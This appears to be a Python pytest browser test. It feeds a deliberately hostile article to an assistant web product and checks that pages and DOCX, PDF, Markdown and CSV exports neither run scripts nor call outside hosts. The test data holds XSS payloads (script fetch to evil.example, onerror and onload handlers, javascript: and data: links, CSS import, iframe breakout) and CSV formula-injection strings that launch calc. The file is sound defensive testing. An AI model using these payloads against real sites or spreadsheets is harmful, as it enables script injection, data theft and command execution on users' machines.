"""Hostile articles over the whole product in a real browser: nothing runs, nothing is asked of another host.

The assistant is the real one, in a process of its own; every request of the browser is logged, those of exports too.
"""

from __future__ import annotations

import html
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from pypdf import PdfReader

pytestmark = pytest.mark.browser
PROJECT = Path(__file__).parent.parent.parent
EVIL = "evil.example"
LIVE = (
    f'<script>document.title="taken";fetch("https://{EVIL}/a")</script>',
    f'<img src="https://{EVIL}/b.png" onerror="document.title=1">',
    f"![pixel](https://{EVIL}/c.png)",
    "[press](javascript:document.title=2)",
    "[open](data:text/html;base64,PHNjcmlwdD4=)",
    f"<style>@import 'https://{EVIL}/d.css';*{{display:none}}</style>",
    f'<svg onload="document.title=3"><image href="https://{EVIL}/e"/></svg>',
    f'"><iframe src="https://{EVIL}/f"></iframe>',
)
FORMULAS = (
    f'=HYPERLINK("https://{EVIL}/g";"hives")',
    "+cmd\\|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd\\|' /C calc'!A0",
)
# An article that says a few words over and over is not quoted at all.
TAILS = (
    "chasing warm wind along silent harbour walls",
    "carrying dust toward distant orchards and vineyards",
    "avoiding smoke, lanterns, traffic and barking dogs",
    "where gardeners leave sugar beside empty baskets",
    "although beekeepers paint every wooden lid blue",
    "when rivers freeze under bridges near the station",
    "because schools planted clover between playground fences",
    "before bakers open shutters on market mornings",
)
ARTICLE = """# __City hives {live}__, (from page [20240105](javascript:alert(1)).)

__[External link](javascript:alert(2))__

## Keywords

* hives

## Summary

Hives grow in towns. {live}

## Concerns

| name | description | relevancy |
|:--|:--|--:|
{rows}
"""


@pytest.fixture(scope="module")
def hostile_address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Where the product is served over the hostile article."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "corpus").mkdir()
    rows = [
        f"| Mites {n} {live} | Mites of hives travel {live} by night, {tail}. | 5 |"
        for n, (live, tail) in enumerate(zip(LIVE, TAILS, strict=True), 1)
    ]
    rows += [f"| {formula} | {formula} | 5 |" for formula in FORMULAS]
    text = ARTICLE.format(live=LIVE[1], rows="\n".join(rows))
    (folder / "corpus" / "hives.md").write_text(text, encoding="utf-8")
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("OPENAI_", "ASSISTANT_"))}
    told = {"ASSISTANT_HOME": str(folder / "home"), "ASSISTANT_SEEDS": str(folder / "corpus")}
    command = [sys.executable, "-m", "assistant", "serve", "--port", "0", "--no-browser"]
    server = subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=kept | told | {"PYTHONPATH": str(PROJECT)},
    )
    try:
        assert server.stdout is not None
        yield server.stdout.readline().strip()
    finally:
        server.terminate()
        server.wait(20)


class Watched:
    """A page whose requests, dialogs and errors are logged."""

    def __init__(self, browser: Any, address: str) -> None:
        self.address = address
        self.context = browser.new_context(locale="en-GB")
        self.context.set_default_timeout(15_000)
        self.page = self.context.new_page()
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("console", lambda line: self.complaints.append(line.text) if line.type == "error" else None)
        self.page.on("dialog", lambda dialog: (self.complaints.append(dialog.message), dialog.dismiss()))

    def assert_harmless(self, where: str) -> None:
        """Nothing on the page runs, loads or leads elsewhere."""
        page = self.page
        assert page.title() not in ("taken", "1", "2", "3"), where
        links = page.locator("a[href]").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
        bad = [href for href in links if urlsplit(href).scheme not in ("", "http", "https") or EVIL in href]
        assert bad == [], where
        for tag in ("img", "image", "iframe", "script", "link", "object", "embed"):
            held = page.locator(f"[src*='{EVIL}'], [href*='{EVIL}'], {tag}[onerror], {tag}[onload]")
            assert held.count() == 0, where
        foreign = [url for url in self.requests if EVIL in (urlsplit(url).hostname or "")]
        foreign += [url for url in self.requests if urlsplit(url).hostname not in (None, "127.0.0.1")]
        assert foreign == [], where
        assert self.complaints == [], where


@pytest.fixture
def watched(browser: Any, hostile_address: str) -> Iterator[Watched]:
    """A new person at the product."""
    visit = Watched(browser, hostile_address)
    yield visit
    visit.context.close()


def ask(watched: Watched, question: str) -> Any:
    before = watched.page.locator(".answer").count()
    watched.page.locator("#question textarea").fill(question)
    watched.page.locator("#question textarea").press("Enter")
    watched.page.locator(".answer").nth(before).wait_for()
    watched.page.locator("#ask").wait_for(state="visible")
    return watched.page.locator(".answer").nth(before)


def test_nothing_of_a_hostile_article_runs_or_calls_out_anywhere(watched: Watched) -> None:
    page = watched.page
    page.goto(watched.address)
    page.locator("#question textarea").wait_for()
    answer = ask(watched, "List all mites of hives that travel by night.")
    assert any(live[:8] in answer.inner_text() for live in LIVE), "the markup is shown as text"
    watched.assert_harmless("answer")
    answer.locator("a.cite").first.click()
    page.locator("#panel h2").wait_for()
    watched.assert_harmless("panel")
    page.keyboard.press("Escape")

    kinds = answer.locator(".files a").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    saved = {path.partition("?")[0].rpartition(".")[2]: fetch(watched, path) for path in kinds}
    assert {"docx", "pdf", "md"} <= set(saved)
    assert_word_is_harmless(saved["docx"])
    assert_pdf_is_harmless(saved["pdf"])
    open_as_page(watched, saved["md"].decode())

    listed = ask(watched, "Which concerns have relevancy 5?")
    watched.assert_harmless("table")
    table = fetch(watched, listed.locator("a.csv").get_attribute("href")).decode("utf-8-sig")
    cells = [cell.strip('"') for line in table.splitlines() for cell in line.split(",")]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "-"))] == []

    page.locator("#tabs [role=tab]").nth(1).click()
    page.locator(".explorer .list").wait_for()
    page.locator(".explorer .list a").first.click()
    page.locator("#panel h2").wait_for()
    watched.assert_harmless("explorer")


def test_the_page_of_checks_is_harmless_too(watched: Watched) -> None:
    page = watched.page
    page.goto(f"{watched.address}/checks")
    page.locator("[name=question]").fill(f"How do mites of hives travel by night? {LIVE[1]}")
    page.locator("[name=must]").fill(LIVE[0])
    page.locator("[name=question]").locator("xpath=ancestor::form").locator("button, [type=submit]").first.click()
    page.locator(".verdict").first.wait_for()
    watched.assert_harmless("checks")


def fetch(watched: Watched, path: str | None) -> bytes:
    assert path
    assert path.startswith("/page/")
    answered = watched.context.request.get(watched.address + path)
    assert answered.ok, path
    return bytes(answered.body())


def assert_word_is_harmless(document: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(document)) as parts:
        linked = "".join(parts.read(name).decode() for name in parts.namelist() if name.endswith(".rels"))
        written = "".join(parts.read(name).decode() for name in parts.namelist() if name.endswith(".xml"))
    assert EVIL not in linked
    assert "javascript:" not in linked
    assert not any(field in written for field in ("<w:instrText", "<w:fldSimple", "<w:altChunk", "<script", "<img"))
    assert any(live[:8] in html.unescape(written) for live in LIVE), "markup is text in it"


def assert_pdf_is_harmless(document: bytes) -> None:
    reader = PdfReader(io.BytesIO(document))
    root = reader.trailer["/Root"].get_object()
    assert not set(root) & {"/AA", "/AcroForm"}
    assert isinstance(root.get("/OpenAction", []), list), "where to begin to read is no action"
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            told = str(annotation.get_object())
            assert EVIL not in told
            assert "javascript:" not in told.lower()
            assert "/JavaScript" not in told


def open_as_page(watched: Watched, markdown: str) -> None:
    """What a lenient reader of Markdown makes of a note, opened in the browser."""
    from markdown_it import MarkdownIt

    other = watched.context.new_page()
    other.set_content(MarkdownIt("commonmark", {"html": True}).render(markdown))
    assert other.locator("img, script, svg, iframe, style, [onerror], [onload]").count() == 0
    links = other.locator("a").evaluate_all("links => links.map((a) => a.getAttribute('href'))")
    assert [href for href in links if EVIL in href or href.startswith(("javascript:", "data:"))] == []
    other.close()
